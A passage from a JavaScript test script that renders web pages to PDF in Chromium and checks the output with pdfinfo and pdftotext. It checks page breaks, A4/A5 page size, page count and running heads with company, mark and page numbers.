    });
    check(`${label}: a page break before each chapter and after the cover, none inside a table row, line-break strict`,
      s.chapters > 0 && s.breaks === s.chapters && s.rows === 0 && s.cover === 'page' && s.running === 'none' &&
      s.lineBreak === 'strict', JSON.stringify(s));
    const pdf = path.join(TMP, `html-print-${site.name}.pdf`);
    await p.pdf({ path: pdf, preferCSSPageSize: true, printBackground: true });
    const info = run('pdfinfo', [pdf]);
    const size = /Page size:\s+([\d.]+) x ([\d.]+)/.exec(info);
    const [w, h] = size ? [Math.round(+size[1]), Math.round(+size[2])] : [0, 0];
    const pages = +(/Pages:\s+(\d+)/.exec(info) || [0, 0])[1];
    check(`${label}: chromium's PDF is ${s.a5 ? 'A5' : 'A4'}, several pages`,
      (s.a5 ? (w === 420 && h === 595) : (w === 595 && h === 842)) && pages > 3, info);
    const flat = t => t.replace(/\s+/g, '');
    const first = flat(run('pdftotext', ['-l', '1', pdf, '-']));
    const second = flat(run('pdftotext', ['-f', '2', '-l', '2', pdf, '-']));
    check(`${label}: the cover has the mark and no running head; later pages carry company, mark and page number`,
      first.includes(flat(s.mark)) && !/\d+\/\d+/.test(first) && second.includes(flat(s.company)) &&
      second.includes(`［${flat(s.mark)}］`) && second.includes(`2/${pages}`), second.slice(0, 600));
  } catch (e) {
    check(`${label}: prints`, false, e);
  }
  await ctx.close();
}

await browser.close();
console.error(`# html: ${passed} passed, ${failed} failed`);
process.exit(failed ? 1 : 0);
